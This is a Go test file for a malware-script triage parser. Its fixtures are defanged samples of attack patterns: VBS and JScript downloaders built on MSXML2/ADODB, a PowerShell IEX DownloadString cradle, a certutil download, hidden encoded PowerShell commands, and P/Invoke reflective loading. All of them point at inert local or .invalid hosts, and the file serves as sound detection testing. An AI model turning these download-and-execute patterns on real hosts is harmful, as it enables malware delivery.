package script

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"triage/parsers"
	"triage/parsers/filetype"
	"triage/parsers/parsertest"
)

const regress = "Write-Output 'TRIAGE-REGRESSION'"

// enc returns base64 of s as UTF-16LE.
func enc(s string) string { return base64.StdEncoding.EncodeToString(utf16le(s)) }

func utf16le(s string) []byte {
	var b []byte
	for _, c := range utf16.Encode([]rune(s)) {
		b = append(b, byte(c), byte(c>>8))
	}
	return b
}

// fakePE is an inert MZ blob: a DOS header whose e_lfanew points at a PE
// signature, followed by the regression marker.
func fakePE() []byte {
	b := make([]byte, 0x80)
	copy(b, "MZ")
	b[0x3c] = 0x40
	copy(b[0x40:], "PE\x00\x00")
	return append(b, "TRIAGE-REGRESSION"...)
}

// codes renders findings as sorted "code:severity" strings.
// The catalogue §7 benign sample: only WScript.Echo runs; an uncalled
// function holds the downloader objects and five rotating URLs.
const lockyVBS = `' 8812345.vbs
WScript.Echo "TRIAGE-REGRESSION"

Function NeverCalled()
    Dim urls, x, s
    urls = Array("http://a.example.invalid/87abcXYZ", "http://b.example.invalid/87abcXYZ", _
        "http://c.example.invalid/87abcXYZ", "http://d.example.invalid/87abcXYZ", "http://e.example.invalid/87abcXYZ")
    Set x = CreateObject("MSXML2.XMLHTTP")
    Set s = CreateObject("ADODB.Stream")
End Function
`

const jscriptDownloader = `var u = "http://127.0.0.1:9/TRIAGE-REGRESSION.exe";
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", u, false);
x.send();
var st = new ActiveXObject("ADODB.Stream");
st.Type = 1; st.Open(); st.Write(x.responseBody);
var sh = WScript.CreateObject("WScript.Shell");
var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\r.txt";
st.SaveToFile(p, 2);
sh.Run("cmd /c echo TRIAGE-REGRESSION", 0);
`

// The catalogue §14 negative: P/Invoke text in a here-string never given
// to Add-Type, and a zero array XORed with 0x5A.
const netwalkerNegative = `# regress.ps1
$sig = @"
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint e, IntPtr f);
"@
# Add-Type is deliberately never called on $sig.
$buf = New-Object byte[] 204800
for ($i = 0; $i -lt $buf.Length; $i++) { $buf[$i] = $buf[$i] -bxor 0x5A }
Write-Output "TRIAGE-REGRESSION"
`

const netwalkerPositive = `$sig = @"
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint e, IntPtr f);
"@
$k = Add-Type -MemberDefinition $sig -Name K32 -Namespace W -PassThru
Write-Output "TRIAGE-REGRESSION"
`

func TestParser_Parse_findings(t *testing.T) {
	cmd := enc(regress)
	tests := []struct {
		name, file, typ string
		data            string
		want            []string
	}{
		{"locky_vbs", "8812345.vbs", filetype.VBS, lockyVBS,
			[]string{"script.downloader:high", "script.url_rotation:medium"}},
		{"jscript_downloader", "invoice.js", filetype.JS, jscriptDownloader,
			[]string{"script.downloader:high", "script.exec:medium"}},
		{"ps1_negative", "regress.ps1", filetype.PS1, netwalkerNegative,
			[]string{"script.obfuscation:low", "script.pinvoke_unused:info"}},
		{"ps1_add_type", "loader.ps1", filetype.PS1, netwalkerPositive,
			[]string{"script.reflective_load:critical"}},
		{"ps1_assembly_load", "loader.ps1", filetype.PS1,
			"$b = Get-Content -Raw payload.txt\n[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))\n",
			[]string{"script.reflective_load:critical"}},
		{"ps1_assembly_load_in_string", "doc.ps1", filetype.PS1,
			"Write-Output \"never run [System.Reflection.Assembly]::Load( here\"\n$x = 1\n", nil},
		{"ps1_add_type_benign", "forms.ps1", filetype.PS1,
			"Add-Type -AssemblyName System.Windows.Forms\n[System.Windows.Forms.MessageBox]::Show('TRIAGE-REGRESSION')\n", nil},
		{"ps1_download_cradle", "c.ps1", filetype.PS1,
			"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/TRIAGE-REGRESSION.ps1')\n",
			[]string{"script.downloader:high"}},
		{"bat_encoded", "run.bat", filetype.BAT, "@echo off\r\npowershell -nop -w hidden -enc " + cmd + "\r\n",
			[]string{"script.encoded_command:high", "script.exec:medium"}},
		{"bat_certutil", "get.bat", filetype.BAT, "@echo off\r\ncertutil -urlcache -split -f http://127.0.0.1:9/a.txt %TEMP%\\a.txt\r\n",
			[]string{"script.downloader:high"}},
		{"text_encoded", "body.txt", filetype.Text, "Hello,\nplease run this:\npowershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand " + cmd + "\nThanks\n",
			[]string{"script.encoded_command:high"}},
		{"text_downloader_words_ignored", "body.txt", filetype.Text, "MSXML2.XMLHTTP and ADODB.Stream and WScript.Shell .Run are words in this text.\n", nil},
		{"vba_split_literals", "Module1", filetype.VBA, `s = "power" & "shell -w hidden -e" & "nc ` + cmd[:20] + `" & "` + cmd[20:] + `"`,
			[]string{"script.encoded_command:high"}},
		{"html_encoded", "page.html", filetype.HTML, `<html><body><a href="x">powershell -ec ` + cmd + `</a></body></html>`,
			[]string{"script.encoded_command:high"}},
		{"hta_exec", "a.hta", filetype.HTA, `<hta:application/><script language="VBScript">CreateObject("WScript.Shell").Run "mshta about:blank", 0</script>`,
			[]string{"script.exec:medium"}},
		{"same_path_same_host", "a.js", filetype.JS,
			`var a = ["http://a.example.invalid/x/1.exe", "http://a.example.invalid/x/1.exe?b", "http://a.example.invalid/x/1.exe#c"];`, nil},
		{"root_paths", "a.js", filetype.JS,
			`var a = ["http://a.example.invalid/", "http://b.example.invalid/", "http://c.example.invalid/"];`, nil},
		{"benign_echo", "IMG123101.jpg.js", filetype.JS, `WScript.Echo("TRIAGE-REGRESSION")`, nil},
		{"from_base64_text_ps1", "t.ps1", filetype.PS1,
			`$u = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('` + base64.StdEncoding.EncodeToString([]byte("http://127.0.0.1:9/TRIAGE-REGRESSION")) + `'))`,
			[]string{"script.base64_text:medium"}},
		{"charcode_js", "o.js", filetype.JS, "var s = " + strings.Repeat("String.fromCharCode(84)+", 30) + "'';\nWScript.Echo(s);\n",
			[]string{"script.obfuscation:low"}},
		{"eval_atob", "o.js", filetype.JS, "eval(atob('V1NjcmlwdC5FY2hvKCJUUklBR0UtUkVHUkVTU0lPTiIp'));\n",
			[]string{"script.obfuscation:low"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec, err := parsertest.Run(t, New(), tt.file, tt.typ, []byte(tt.data))
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if diff := cmp.Diff(tt.want, rec.Codes()); diff != "" {
				t.Errorf("findings (-want +got):\n%s\n%+v", diff, rec.Findings)
			}
		})
	}
}

func TestParser_Parse_lockyDetails(t *testing.T) {
	rec, err := parsertest.Run(t, New(), "8812345.vbs", filetype.VBS, []byte(lockyVBS))
	if err != nil {
		t.Fatal(err)
	}
	f := rec.FindingOf("script.url_rotation")
	if f.Campaign != "locky" || !strings.Contains(f.Detail, "5 hosts") || !strings.Contains(f.Detail, "/87abcXYZ") {
		t.Errorf("url_rotation = %+v", f)
	}
	if d := rec.FindingOf("script.downloader"); !cmp.Equal(d.Attack, []string{"T1105"}) {
		t.Errorf("downloader attack = %v", d.Attack)
	}
	want := map[string]any{"language": "vbscript", "lines": 10, "max_line_length": 118, "urls": 5}
	if diff := cmp.Diff(want, rec.MetaData); diff != "" {
		t.Errorf("meta (-want +got):\n%s", diff)
	}
}

func TestParser_Parse_encodedChildren(t *testing.T) {
	dl := "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/TRIAGE-REGRESSION.ps1')"
	tests := []struct {
		name, typ, data string
		want            []string
	}{
		{"bat", filetype.BAT, "@echo off\r\nP^Ow^er^she^L^L -w hidden -ENCOD " + enc(regress) + "\r\nmsg %username% error\r\n", []string{regress}},
		{"text_two", filetype.Text, "powershell -enc " + enc(regress) + "\nand pwsh -e " + enc(dl) + "\n", []string{regress, dl}},
		{"ps1_utf16_bom", filetype.PS1, string(append([]byte{0xff, 0xfe}, utf16le("powershell -ec "+enc(regress))...)), []string{regress}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec, err := parsertest.Run(t, New(), "x", tt.typ, []byte(tt.data))
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, c := range rec.Children {
				if c.Name != "powershell_decoded" || c.Type != filetype.PS1 || !c.Text {
					t.Errorf("child %q type %q text %v", c.Name, c.Type, c.Text)
				}
				got = append(got, string(c.Data))
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("children (-want +got):\n%s", diff)
			}
			f := rec.FindingOf("script.encoded_command")
			if f.Severity != parsers.High || !cmp.Equal(f.Attack, []string{"T1059.001", "T1027"}) {
				t.Errorf("finding = %+v", f)
			}
		})
	}
}

// vbsLines splits an encoded blob into VBS concatenation lines.
func vbsLines(s string, width int) string {
	var b strings.Builder
	b.WriteString("Dim s\ns = \"\"\n")
	for len(s) > 0 {
		n := min(width, len(s))
		fmt.Fprintf(&b, "s = s & \"%s\"\n", s[:n])
		s = s[n:]
	}
	b.WriteString("WScript.Echo Len(s)\n")
	return b.String()
}

func TestParser_Parse_embeddedPE(t *testing.T) {
	pe := fakePE()
	b64 := base64.StdEncoding.EncodeToString(pe)
	hx := hex.EncodeToString(pe)
	var arr []string
	for _, c := range pe {
		arr = append(arr, fmt.Sprintf("0x%02X", c))
	}
	tests := []struct {
		name, typ, data string
	}{
		{"vbs_base64_concat", filetype.VBS, vbsLines(b64, 64)},
		{"vbs_hex_concat", filetype.VBS, vbsLines(hx, 100)},
		{"js_one_literal", filetype.JS, `var b = "` + b64 + `"; WScript.Echo(b.length);`},
		{"ps1_here_string_wrapped", filetype.PS1, "$b = @'\n" + wrap(b64, 76) + "\n'@\nWrite-Output $b.Length\n"},
		{"ps1_byte_array", filetype.PS1, "[Byte[]]$b = " + strings.Join(arr, ",") + "\nWrite-Output $b.Length\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec, err := parsertest.Run(t, New(), "CORONAVIRUS_COVID-19.vbs", tt.typ, []byte(tt.data))
			if err != nil {
				t.Fatal(err)
			}
			f := rec.FindingOf("script.embedded_pe")
			if f.Severity != parsers.High || f.Campaign != "netwalker" {
				t.Fatalf("embedded_pe = %+v (all %v)", f, rec.Codes())
			}
			if len(rec.Children) != 1 || rec.Children[0].Name != "embedded.bin" || rec.Children[0].Type != "" {
				t.Fatalf("children = %+v", rec.Children)
			}
			if !bytes.Equal(rec.Children[0].Data, pe) {
				t.Errorf("decoded %d bytes, want the %d-byte PE", len(rec.Children[0].Data), len(pe))
			}
			if got := filetype.Detect(rec.Children[0].Data, ""); got != filetype.PE {
				t.Errorf("child detected as %q", got)
			}
		})
	}
}

// TestParser_Parse_tinyArtifactLimit: an artifact limit of a few bytes
// cuts blobs below one base64 quantum (skipped, not a panic) or the
// decoded PE to the limit.
func TestParser_Parse_tinyArtifactLimit(t *testing.T) {
	data := `var b = "` + base64.StdEncoding.EncodeToString(fakePE()) + `"; WScript.Echo(b.length);`
	for limit, want := range map[int64]int{1: 0, 2: 1, 3: 1} {
		rec, _ := parsertest.RunLimits(t, New(), "a.js", filetype.JS, []byte(data), parsers.Limits{MaxArtifactBytes: limit})
		if len(rec.Children) != want || (want > 0 && int64(len(rec.Children[0].Data)) > limit) {
			t.Errorf("limit %d: findings %v, children %+v", limit, rec.Codes(), rec.Children)
		}
	}
}

func wrap(s string, n int) string {
	var lines []string
	for len(s) > n {
		lines = append(lines, s[:n])
		s = s[n:]
	}
	return strings.Join(append(lines, s), "\n")
}

func TestParser_Parse_childLimit(t *testing.T) {
	data := "powershell -enc " + enc(regress) + "\npowershell -enc " + enc("Write-Output 2") + "\n"
	ctx := t.Context()
	a := &parsers.Artifact{ID: "1", Name: "x.bat", Type: filetype.BAT, Size: int64(len(data))}
	in := &parsers.Input{Artifact: a, Data: []byte(data), Budget: parsers.NewBudget(ctx, parsers.Limits{}), Env: parsertest.Env(nil)}
	rec := &parsertest.Recorder{MaxChildren: 1}
	err := New().Parse(ctx, in, rec)
	if !errors.Is(err, parsers.ErrLimit) {
		t.Fatalf("err = %v, want ErrLimit", err)
	}
	if len(rec.Children) != 1 || !rec.HasFinding("script.encoded_command") {
		t.Errorf("children %d, findings %v", len(rec.Children), rec.Codes())
	}
}

func TestParser_Match(t *testing.T) {
	p := New()
	for typ, want := range map[string]bool{
		filetype.JS: true, filetype.VBS: true, filetype.WSF: true, filetype.PS1: true, filetype.BAT: true,
		filetype.HTA: true, filetype.Text: true, filetype.VBA: true, filetype.HTML: true,
		filetype.Zip: false, filetype.PE: false, filetype.EML: false, filetype.Binary: false,
	} {
		if got := p.Match(&parsers.Artifact{Type: typ}, nil); got != want {
			t.Errorf("Match(%s) = %v, want %v", typ, got, want)
		}
	}
	if p.Match(nil, nil) {
		t.Error("Match(nil) = true")
	}
}

func TestPSCode(t *testing.T) {
	src := "<# Add-Type block #>\n$a = 'Add-Type'\n$b = \"x `\" Add-Type\"\n# Add-Type\n$c = @\"\nAdd-Type\n\"@\nGet-Date"
	got := psCode(src)
	if strings.Contains(strings.ToLower(got), "add-type") {
		t.Errorf("psCode kept a string or comment: %q", got)
	}
	if !strings.Contains(got, "Get-Date") || !strings.Contains(got, "$a = ") {
		t.Errorf("psCode dropped code: %q", got)
	}
}

// TestParser_Parse_corpusMail runs the parser over real third-party mail
// (as text and html) and requires nothing above Low: benign mail must not
// look like a script attack.
func TestParser_Parse_corpusMail(t *testing.T) {
	corpus := parsertest.SharedCorpus(t)
	files := 0
	for _, dir := range []string{"mikel-mail", "enmime"} {
		err := filepath.WalkDir(filepath.Join(corpus, dir), func(path string, d os.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			data, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			files++
			for _, typ := range []string{filetype.Text, filetype.HTML, filetype.JS} {
				rec, _ := parsertest.Run(t, New(), d.Name(), typ, data)
				if s := rec.MaxSeverity(); s > parsers.Low {
					t.Errorf("%s as %s: %v", path, typ, rec.Codes())
				}
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if files < 50 {
		t.Errorf("only %d corpus mail files found", files)
	}
	t.Logf("%d corpus mail files, none above low", files)
}
